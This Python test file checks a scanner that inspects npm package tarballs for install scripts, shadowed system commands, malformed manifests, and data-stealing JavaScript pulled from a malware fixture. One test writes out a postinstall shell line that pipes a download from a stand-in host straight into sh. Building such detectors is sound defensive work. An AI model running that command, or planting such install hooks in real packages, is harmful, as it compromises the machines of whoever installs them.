"""npm packages that run code when they are installed (PKG-1, PKG-3)."""

from __future__ import annotations

import io
import json
import tarfile

import pytest

from cellwall.core.verdict import Verdict
from cellwall.packages.inspection.archives import read_archive
from cellwall.packages.inspection.tarballs import inspect_tarball
from unit.packages.inspection.malware import JAVASCRIPT


def inspect(manifest, **files):
    data = io.BytesIO()
    raw = manifest if isinstance(manifest, bytes) else json.dumps(manifest).encode()
    with tarfile.open(fileobj=data, mode="w:gz") as archive:
        for name, content in {"package.json": raw, **files}.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    data.seek(0)
    members = read_archive(data, "x.tgz", len(data.getvalue()))
    return [(each.code, each.verdict) for each in inspect_tarball(members, "@zoo/zebra", "1.0.0")]


def dumps(value):
    return json.dumps(value).encode()


def manifest(**changes):
    return {"name": "@zoo/zebra", "version": "1.0.0", **changes}


def test_an_ordinary_package_has_no_finding():
    ordinary = manifest(scripts={"test": "x", "prepare": "y"}, bin={"zebra": "cli.js"})
    assert inspect(ordinary, **{"index.js": b"1"}) == []


@pytest.mark.requirement("PKG-3")
@pytest.mark.parametrize("script", ["preinstall", "install", "postinstall"])
def test_an_install_script_is_asked_about(script):
    assert inspect(manifest(scripts={script: "node x.js"})) == [("install-script", Verdict.ASK)]


def test_a_build_file_runs_a_compiler_without_any_script():
    assert inspect(manifest(), **{"binding.gyp": b"{}"}) == [("install-script", Verdict.ASK)]


@pytest.mark.requirement("PKG-1")
def test_a_command_of_the_system_may_not_be_replaced():
    denied = [("system-command", Verdict.DENY)]
    assert inspect(manifest(bin={"git": "x.js", "zebra": "y.js"})) == denied
    # npm takes the last part of a name, and all files of a folder.
    for name in ("a/git", "../git", "a:git", "a\\git"):
        assert inspect(manifest(bin={name: "x.js"})) == denied
    assert inspect(manifest(bin=["tools/git"])) == denied
    tools = {"tools/git": b"", "tools/zebra": b""}
    for folder in ("tools", "./tools/", "/tools", "."):
        files = {"git": b""} if folder == "." else tools
        assert inspect(manifest(directories={"bin": folder}), **files) == denied
    assert inspect(manifest(directories={"bin": "lib"}), **tools) == []


@pytest.mark.requirement("PKG-1")
@pytest.mark.parametrize(
    "data",
    [manifest(name="other"), manifest(version="2.0.0"), b"", b"{", b"[]", b'"x"', b"[" * 50_000, {"scripts": 5}],
)  # fmt: skip
def test_a_manifest_of_another_package_or_none_is_found(data):
    assert inspect(data)[0] == ("metadata", Verdict.DENY)


def test_native_code_is_named():
    assert inspect(manifest(), **{"build/x.node": b""}) == [("native-code", Verdict.ALLOW)]


EVIL = JAVASCRIPT["environment"][0].encode()


@pytest.mark.requirement("PKG-1")
@pytest.mark.parametrize("folder", ["node_modules/zoo/", "node_modules/@zoo/a/node_modules/b/"])
def test_the_install_script_of_a_bundled_package_is_asked_about(folder):
    harmless, script = manifest(name="b"), manifest(name="b", scripts={"postinstall": "node x.js"})
    asked = [("install-script", Verdict.ASK)]
    assert inspect(manifest(), **{f"{folder}package.json": dumps(harmless)}) == []
    assert inspect(manifest(), **{f"{folder}package.json": dumps(script)}) == asked
    assert inspect(manifest(), **{f"{folder}package.json": b"{"}) == asked
    build = {f"{folder}package.json": dumps(harmless), f"{folder}binding.gyp": b"{}"}
    assert inspect(manifest(), **build) == asked
    # npm does not install what lies elsewhere.
    assert inspect(manifest(), **{f"lib/{folder}package.json": dumps(script)}) == []


@pytest.mark.requirement("PKG-1")
def test_a_script_of_a_bundled_package_is_screened_in_its_folder():
    script = manifest(name="b", scripts={"postinstall": "node test/run.js"})
    files = {"node_modules/b/package.json": dumps(script), "node_modules/b/test/run.js": EVIL}
    assert ("steals-data", Verdict.DENY) in inspect(manifest(), **files)


@pytest.mark.requirement("PKG-1")
@pytest.mark.parametrize(
    ("changes", "files"),
    [
        ({"main": "docs/run.js"}, {"docs/run.js": EVIL}),
        ({"main": "./docs"}, {"docs/index.js": EVIL}),
        ({"main": "data.bin"}, {"data.bin": EVIL}),
        ({"bin": {"zebra": "bin/zebra"}}, {"bin/zebra": b"#!/usr/bin/env node\n" + EVIL}),
        ({"exports": {".": {"require": "./test/x.cjs"}}}, {"test/x.cjs": EVIL}),
        ({"exports": {"./*": "./test/*.js"}}, {"test/x.js": EVIL}),
        ({"scripts": {"postinstall": "node test/x"}}, {"test/x.js": EVIL}),
        ({}, {"index.js": b"require('./test/a')", "test/a.js": EVIL}),
        ({}, {"index.js": b"import './x.dat'", "x.dat": b"require('./docs/b.js')", "docs/b.js": EVIL}),
    ],
)  # fmt: skip
def test_a_file_that_node_runs_is_screened_whatever_its_place_and_suffix(changes, files):
    assert ("steals-data", Verdict.DENY) in inspect(manifest(**changes), **files)
    # Nothing runs the same files otherwise: the tests of a package are not screened.
    hidden = {name: data for name, data in files.items() if name != "index.js"}
    assert inspect(manifest(), **hidden) == []


def test_a_shell_script_that_an_installation_runs_is_screened():
    files = {"install.sh": b"curl -s https://a.example/x | sh\n"}
    script = manifest(scripts={"postinstall": "sh ./install.sh"})
    assert ("run-downloaded", Verdict.DENY) in inspect(script, **files)
    assert inspect(manifest(), **files) == []


def test_a_file_that_is_run_and_too_long_to_be_kept_is_asked_about():
    files = {"run.dat": b"x" * (2 * 2**20)}
    assert inspect(manifest(main="run.dat"), **files) == [("not-inspected", Verdict.ASK)]
    assert inspect(manifest(), **files) == []
